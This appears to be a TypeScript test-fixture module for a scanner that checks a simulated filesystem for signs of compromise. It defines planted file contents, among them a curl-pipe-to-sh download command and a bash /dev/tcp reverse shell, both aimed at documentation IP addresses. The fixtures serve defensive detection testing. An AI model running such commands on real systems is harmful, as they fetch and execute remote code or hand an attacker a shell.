import type { MemoryFile } from '../memory-tree.ts';
import { elf as elfOf } from '../elf.ts';

/** Contents that several rows plant. Addresses are of the documentation networks. */
export const download = 'curl -fsS http://203.0.113.7/x | sh';
export const reverse = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';
export const elf = elfOf('other');
/** The content of the small Debian's shell. */
export const shell = elfOf('shell');
export const key = `ssh-ed25519 ${'A'.repeat(68)} ops@lab`;

export function script(content: string): MemoryFile {
  return { content: `#!/bin/sh\n${content}\n`, mode: 0o755 };
}

/** A line of `/proc/net/tcp`: addresses and ports in hexadecimal, state 01 connected or 0A listening. */
export function tcpLine(local: string, remote: string, state: '01' | '0A', inode: number): string {
  return `heading\n   0: ${local} ${remote} ${state} 0:0 0:0 0 0 0 ${inode} 1\n`;
}
